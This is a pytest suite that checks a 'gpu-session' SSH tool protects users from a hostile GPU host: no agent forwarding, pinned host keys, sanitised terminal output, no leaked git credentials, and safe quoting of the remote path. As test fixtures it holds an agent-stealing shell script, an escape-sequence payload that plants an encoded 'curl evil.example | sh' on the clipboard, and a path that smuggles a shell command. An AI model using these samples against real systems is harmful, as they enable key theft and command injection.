"""What scripts/gpu-session keeps from the GPU host, against a real OpenSSH server on 127.0.0.1.

The host runs the code under test (a pull request's code) as the host's user. It gets the
checkout and nothing else of this machine: no ssh agent, whatever ~/.ssh/config says; no git
credentials from .git/config. It is used only when it shows the pinned host key (never trusted
on first use, whatever the config or --ssh-opts say). What its run prints reaches the terminal
without control characters, and fetch never hands a --remote-dir with shell characters to the
host's shell unquoted, whatever the local rsync's version.
"""
from __future__ import annotations

import os
import re
import secrets
import shlex
import shutil
import signal
import subprocess
import time
from pathlib import Path

import pytest
from conftest import GIT_AS_TESTER, REPO
from ssh_helpers import LOOPBACK, SshServer, known_hosts_line, missing, start_sshd, stop_sshd

PACK_ID = "20250101T000000Z-0123456789ab"


@pytest.fixture(scope="module")
def sshd(tmp_path_factory):
    server = start_sshd(tmp_path_factory.mktemp("sshd"))
    yield server
    stop_sshd(server.proc)


class Session:
    """A checkout holding this repository's scripts/, and gpu-session run in it."""

    def __init__(self, tmp: Path, server: SshServer, ssh_opts: str | None = None, **env: str) -> None:
        self.tmp = tmp
        self.server = server
        self.co = tmp / "checkout"
        shutil.copytree(REPO / "scripts", self.co / "scripts")
        self.env = {k: v for k, v in os.environ.items() if not k.startswith("EVPACK_")}
        self.env.update(EVPACK_SSH_OPTS=server.ssh_opts if ssh_opts is None else ssh_opts,
                        EVPACK_SSH_CONNECT_TIMEOUT="5", **env)

    def argv(self, *argv: str) -> list[str]:
        return ["scripts/gpu-session", *argv]

    def gs(self, *argv: str, timeout: float = 60, text: bool = True) -> subprocess.CompletedProcess:
        return subprocess.run(self.argv(*argv), cwd=self.co, env=self.env, capture_output=True, text=text,
                              timeout=timeout)

    def init(self, remote_dir: Path | str) -> subprocess.CompletedProcess:
        s = self.server
        return self.gs("init", "--host", LOOPBACK, "--port", str(s.port), "--user", s.user,
                       "--identity", str(s.client_key), "--remote-dir", str(remote_dir))


def ok(r: subprocess.CompletedProcess) -> None:
    assert r.returncode == 0, (r.returncode, r.stdout, r.stderr)


# ------------------------------------------------------------------ the ssh agent
# The code under test on the host: once the test says follow is streaming, it looks for an agent
# that holds the user's key, in its own environment and wherever sshd puts forwarded agents.
THIEF = r"""
echo waiting
for _ in $(seq 1 300); do [ -e "$RELEASE" ] && break; sleep 0.1; done
for s in ${SSH_AUTH_SOCK:-} /tmp/ssh-*/agent.*; do
  [ -S "$s" ] || continue
  if SSH_AUTH_SOCK=$s timeout 5 ssh-add -L 2>/dev/null | grep -qF "$COMMENT"; then echo "stole the agent at $s"; exit 0; fi
done
echo "no agent"
"""


@pytest.fixture()
def agent(tmp_path):
    """A running ssh-agent holding a fresh key with a unique comment: (socket, comment)."""
    for tool in ("ssh-agent", "ssh-add"):
        if shutil.which(tool) is None:
            missing(f"{tool} not found")
    sock = tmp_path / "agent.sock"
    proc = subprocess.Popen(["ssh-agent", "-D", "-a", str(sock)], stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 10
        while not sock.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        comment = f"evpack-user-key-{secrets.token_hex(6)}"
        key = tmp_path / "user_key"
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", comment, "-f", str(key)],
                       check=True, capture_output=True, timeout=30)
        subprocess.run(["ssh-add", "-q", str(key)], env={**os.environ, "SSH_AUTH_SOCK": str(sock)}, check=True,
                       capture_output=True, timeout=30)
        yield sock, comment
    finally:
        proc.send_signal(signal.SIGTERM)
        proc.wait(timeout=10)


def test_the_host_never_gets_the_users_ssh_agent(tmp_path, sshd, agent):
    """`ForwardAgent yes` in the user's ssh config (here a file given with -F, as ~/.ssh/config is
    read): the code under test must find no agent while `follow` holds its connection open."""
    sock, comment = agent
    (tmp_path / "thief.sh").write_text(THIEF)
    release = tmp_path / "release"
    config = tmp_path / "user_ssh_config"
    config.write_text("Host *\n  ForwardAgent yes\n  ForwardX11 yes\n")
    s = Session(tmp_path, sshd, f"-F {config} -o UserKnownHostsFile={sshd.known_hosts} -o LogLevel=ERROR",
                SSH_AUTH_SOCK=str(sock), EVPACK_HEARTBEAT_S="1",
                EVPACK_REMOTE_CMD=(f"COMMENT={shlex.quote(comment)} RELEASE={shlex.quote(str(release))} "
                                   f"bash {shlex.quote(str(tmp_path / 'thief.sh'))}"))
    ok(s.init(tmp_path / "remote"))
    ok(s.gs("run"))
    follow = subprocess.Popen(s.argv("follow"), cwd=s.co, env=s.env, stdout=subprocess.PIPE,
                              stderr=subprocess.PIPE, text=True, start_new_session=True)
    try:
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not any("waiting" in m.read_text()
                                                      for m in (s.co / ".gpu-session.d").glob("log-*")):
            assert follow.poll() is None, follow.communicate()
            time.sleep(0.1)
        release.touch()  # follow is streaming: its connection is open while the host looks
        out, err = follow.communicate(timeout=60)
    finally:
        if follow.poll() is None:
            os.killpg(follow.pid, signal.SIGKILL)
            follow.wait(timeout=10)
    assert "stole the agent" not in out, f"the code under test used the user's forwarded ssh agent: {out!r}"
    assert "no agent" in out and follow.returncode == 0, (follow.returncode, out, err)


# ------------------------------------------------------------------ host keys
@pytest.mark.parametrize("policy", ["accept-new", "no"])
def test_a_host_key_that_is_not_pinned_is_refused(tmp_path, sshd, policy):
    """Nothing pinned, and the user's config trusts a new key on first use or never checks:
    one line, exit 5, nothing created on the host, nothing added to known_hosts."""
    known = tmp_path / "known_hosts"
    known.write_text("")
    config = tmp_path / "user_ssh_config"
    config.write_text(f"Host *\n  StrictHostKeyChecking {policy}\n")
    s = Session(tmp_path, sshd, f"-F {config} -o UserKnownHostsFile={known} -o GlobalKnownHostsFile=/dev/null "
                                "-o LogLevel=ERROR")
    r = s.init(tmp_path / "remote")
    assert r.returncode == 5, f"init trusted a host key nobody pinned: exit {r.returncode}\n{r.stdout}{r.stderr}"
    assert r.stderr.splitlines() == [
        f"gpu-session: init: your known_hosts holds no host key for {LOOPBACK}:{sshd.port}: nothing sent; pin the "
        'host\'s key first (docs/cloud-gpu-sessions.md, "Pin the host key first")'], r.stderr
    assert not (tmp_path / "remote").exists() and known.read_text() == ""
    assert not (s.co / ".gpu-session").exists()


def test_a_host_key_other_than_the_pinned_one_is_refused(tmp_path, sshd):
    """The address now answers with another key (a new machine there, or someone in between),
    and --ssh-opts asks ssh not to check: refused all the same, nothing created on the host."""
    other = tmp_path / "other_host_key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(other)], check=True,
                   capture_output=True, timeout=30)
    known = tmp_path / "known_hosts"
    known.write_text(known_hosts_line(sshd.port, Path(f"{other}.pub")))
    s = Session(tmp_path, sshd, f"-F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile={known} "
                                "-o GlobalKnownHostsFile=/dev/null -o LogLevel=ERROR")
    r = s.init(tmp_path / "remote")
    assert r.returncode == 5, f"init used a host whose key is not the pinned one: exit {r.returncode}\n{r.stderr}"
    assert r.stderr.splitlines()[-1].startswith(
        f"gpu-session: init: {LOOPBACK}:{sshd.port} did not show the host key your known_hosts holds for it: "
        "nothing sent"), r.stderr
    assert "REMOTE HOST IDENTIFICATION HAS CHANGED" in r.stderr  # ssh's own warning names the pinned line
    assert not (tmp_path / "remote").exists() and not (s.co / ".gpu-session").exists()


# ------------------------------------------------------------------ the terminal
# What the code under test prints: a colour, the clipboard (OSC 52), the window title (OSC 0), a
# report request (CSI 21 t), a DCS request, then a cleared screen with a forged last line.
HOSTILE_LOG = (r"printf 'stage 1 \033[32mok\033[0m\n'; "
               r"printf 'stage 2 \033]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\007\n'; "
               r"printf 'stage 3 \033]0;innocent title\007\033[21t\033P+q544e\033\\\t\r\n'; "
               r"printf '\033[2J\033[Hgpu-session: run finished: exit code 0\n'; exit 3")


def test_follow_shows_the_log_without_control_characters(tmp_path, sshd):
    s = Session(tmp_path, sshd, EVPACK_HEARTBEAT_S="1", EVPACK_REMOTE_CMD=HOSTILE_LOG)
    ok(s.init(tmp_path / "remote"))
    ok(s.gs("run"))
    r = s.gs("follow", text=False)
    assert r.returncode == 1, (r.returncode, r.stdout, r.stderr)  # the run's exit 3 is a failed run
    assert b"stage 3" in r.stdout, r.stdout  # the log came through
    bad = sorted(set(re.findall(rb"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", r.stdout)))
    assert not bad, f"follow wrote control characters from the host to the terminal: {bad} in {r.stdout!r}"
    assert r.stdout.startswith(b"stage 1 [32mok[0m\nstage 2 ]52;c;"), r.stdout  # only those went
    assert b"\t\r\n" in r.stdout  # tab and carriage return are kept
    (mirror,) = (s.co / ".gpu-session.d").glob("log-*")
    assert b"\x1b]52;c;" in mirror.read_bytes()  # the local copy keeps the bytes (resume offsets)


# ------------------------------------------------------------------ git credentials
TOKEN = "ghp_" + "S3CRETTOKEN0123456789abcdefABCDEF0123"
HEADER = "QkFTSUMgc2VjcmV0LWhlYWRlci12YWx1ZQ=="


def test_sync_sends_no_git_credentials(tmp_path, sshd):
    """A token in a remote URL and an http extraheader (what actions/checkout persists) stay here;
    the host still reads the commit the pack records."""
    s = Session(tmp_path, sshd)
    git = [*GIT_AS_TESTER, "-C", str(s.co)]
    for argv in (["init", "-q"], ["add", "scripts"], ["commit", "-q", "-m", "checkout"],
                 ["remote", "add", "origin", f"https://x-access-token:{TOKEN}@github.com/o/r.git"],
                 ["config", "http.https://github.com/.extraheader", f"AUTHORIZATION: basic {HEADER}"]):
        subprocess.run([*git, *argv], check=True, capture_output=True, timeout=20)
    remote = tmp_path / "remote"
    ok(s.init(remote))
    ok(s.gs("sync"))
    assert (remote / "scripts" / "gpu-session").is_file() and (remote / ".git" / "HEAD").is_file()
    leaked = [str(p.relative_to(remote)) for p in remote.rglob("*") if p.is_file() and not p.is_symlink()
              and (TOKEN.encode() in p.read_bytes() or HEADER.encode() in p.read_bytes())]
    assert not leaked, f"the host received the checkout's git credentials in {leaked}"
    head = subprocess.run(["git", "-C", str(remote), "rev-parse", "HEAD"], capture_output=True, text=True,
                          timeout=20)
    local = subprocess.run([*git, "rev-parse", "HEAD"], capture_output=True, text=True, timeout=20)
    assert head.returncode == 0 and head.stdout == local.stdout, head.stderr


# ------------------------------------------------------------------ fetch and the remote shell
# rsync as versions before 3.2.4 behave (macOS ships 2.6.9): a remote path goes to the remote
# shell as it is. rsync >= 3.2.4 does that with --old-args; a caller's -s still protects it.
OLD_RSYNC = """#!/usr/bin/env bash
for a in "$@"; do
  case $a in -s | --protect-args | --secluded-args) exec {rsync} "$@" ;; esac
done
exec {rsync} --old-args "$@"
"""


def test_fetch_never_runs_the_remote_dir_as_a_command(tmp_path, sshd):
    """--remote-dir may hold `;` and blanks (init creates such a folder, quoted): fetch must not
    run a part of it on the host, and must fetch from it, whatever the local rsync's version."""
    real = shutil.which("rsync")
    if real is None or "--old-args" not in subprocess.run([real, "--help"], capture_output=True, text=True,
                                                           timeout=20).stdout:
        pytest.skip("needs rsync >= 3.2.4 (its --old-args behaves as the older rsync)")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "rsync").write_text(OLD_RSYNC.format(rsync=shlex.quote(real)))
    (bin_dir / "rsync").chmod(0o755)
    pwned = tmp_path / "PWNED"
    remote = f"{tmp_path}/gpu box;touch {pwned};x"
    s = Session(tmp_path, sshd, PATH=f"{bin_dir}{os.pathsep}{os.environ['PATH']}", EVPACK_VERIFY_CMD="true")
    ok(s.init(remote))
    packs = Path(remote) / "artifacts" / "packs"
    (packs / PACK_ID).mkdir(parents=True)
    (packs / PACK_ID / "pack.json").write_text("{}\n")
    (packs / "latest").symlink_to(PACK_ID)
    r = s.gs("fetch")
    assert not pwned.exists(), f"fetch ran a part of --remote-dir as a command on the host\n{r.stderr}"
    ok(r)
    assert (s.co / "artifacts" / "packs" / PACK_ID / "pack.json").read_text() == "{}\n"
